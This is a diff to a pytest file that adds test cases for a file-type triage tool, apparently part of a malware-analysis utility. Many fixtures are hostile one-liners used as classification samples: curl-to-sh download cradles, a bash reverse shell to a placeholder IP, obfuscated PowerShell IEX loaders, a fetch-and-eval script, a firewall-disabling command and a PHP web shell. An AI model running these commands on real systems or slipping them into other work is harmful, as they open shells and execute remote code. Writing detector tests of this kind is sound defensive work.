@@ -1,4 +1,6 @@
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from vedette.triage.identify import identify
 from vedette.triage.kinds import Kind
@@ -13,6 +15,32 @@ LINES = [
     ('Sub AutoOpen()\n  Dim s As String\n  Shell "calc"\nEnd Sub\n', Kind.VBA),
     ("@echo off\nreg add HKCU\\x /v y", Kind.BATCH),
     ("var a=new ActiveXObject('WScript.Shell');a.Run('x')", Kind.JAVASCRIPT),
+    ("s=`which sh`; $s -c 'curl http://198.51.100.7 | sh'", Kind.SHELL),
+    ("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", Kind.SHELL),
+    ("a=cu;b=rl;$a$b http://198.51.100.1|sh", Kind.SHELL),
+    ("i`e`x (iw`r http://198.51.100.7/a)", Kind.POWERSHELL),
+    ("&(\"{1}{0}\"-f'X','IE') 'x'", Kind.POWERSHELL),
+    ("-join((101,120)|%{[char]$_})", Kind.POWERSHELL),
+    ("_ = lambda x: __import__('zlib').decompress(x);exec(_(b'=='))", Kind.PYTHON),
+    ("%comspec:~0,1%md /c calc", Kind.BATCH),
+    ("netsh advfirewall set allprofiles state off", Kind.BATCH),
+    ("Execute(Chr(101)&Chr(120)&Chr(105))", Kind.VBSCRIPT),
+    ('require("child_process").exec("curl http://198.51.100.1|sh")', Kind.JAVASCRIPT),
+    ("(()=>{const h=atob('aHR0');fetch(h).then(r=>r.text()).then(eval)})()", Kind.JAVASCRIPT),
+    ("export interface A { x: string; y?: number }\nexport const f = (a: A): void => {};", Kind.TYPESCRIPT),
+    ('use strict;\nmy $x = shift;\nprint "$x\\n";\n', Kind.PERL),
+    ("require 'socket'\nclass A\n  def initialize(x)\n    @x = x\n  end\nend\n", Kind.RUBY),
+    ("local x = require('os')\nif x then\n  x.execute('ls')\nend\n", Kind.LUA),
+    ("<html><head><hta:application id='x'></head></html>", Kind.HTA),
+    ("<job><script language='JScript'>var a;</script></job>", Kind.WSF),
+    ("<svg xmlns='http://www.w3.org/2000/svg'></svg>", Kind.SVG),
+    ("<?xml version='1.0'?><root/>", Kind.XML),
+    ("[InternetShortcut]\nURL=http://x.invalid\n", Kind.URL),
+    ("From: a@b.invalid\nTo: c@d.invalid\nSubject: x\nMIME-Version: 1.0\n\nhello", Kind.MAIL),
+    ('[project]\nname = "x"\nversion = "1"\n', Kind.TOML),
+    ('#include <stdio.h>\nint main(void){printf("x");return 0;}', Kind.TEXT),
+    ("Permission is hereby granted, free of charge, to any person who copies this.", Kind.TEXT),
+    ("aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", Kind.TEXT),
     ("<?php eval($_POST[0]);", Kind.PHP),
     ("<html><body>x</body></html>", Kind.HTML),
     ('{"a": 1, "b": [2]}', Kind.JSON),
@@ -36,3 +64,33 @@ def test_a_name_decides_only_where_content_leaves_it_open() -> None:
     assert identify(b"<html><script>x</script></html>", "a.hta") is Kind.HTA
     assert identify(b"") is Kind.EMPTY
     assert identify(bytes(range(256)) * 4) is Kind.UNKNOWN
+
+
+def test_a_first_line_says_who_reads_a_script() -> None:
+    for line, kind in (
+        ("#!/usr/bin/env python3", Kind.PYTHON),
+        ("#!/bin/bash -e", Kind.SHELL),
+        ("#!/usr/bin/env -S node --x", Kind.JAVASCRIPT),
+        ("#!/usr/bin/perl -w", Kind.PERL),
+        ("#!/usr/bin/env pwsh", Kind.POWERSHELL),
+    ):
+        assert identify(f"{line}\nx\n".encode()) is kind
+
+
+def test_what_stands_after_much_that_says_nothing_is_seen() -> None:
+    code = b"import os\nos.system('x')\n\ndef f(self):\n    return None\n"
+    assert identify(b"\n" * 50_000 + code) is Kind.PYTHON
+    assert identify(b"# nothing\n" * 5_000 + code) is Kind.PYTHON
+    shell = b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n$env:x\n"
+    assert identify(b"word " * 5_000 + shell * 3) is Kind.POWERSHELL
+
+
+def test_text_without_a_mark_in_two_bytes_a_letter_is_text() -> None:
+    line = "Get-ChildItem $env:TEMP | Out-Null"
+    assert identify(line.encode("utf-16-le")) is Kind.POWERSHELL
+    assert identify(line.encode("utf-16-be")) is Kind.POWERSHELL
+
+
+@given(st.binary(max_size=600), st.sampled_from(["", "a.js", "a.hta", "a.exe", "noext", "."]))
+def test_any_bytes_are_something(data: bytes, name: str) -> None:
+    assert identify(data, name) in Kind
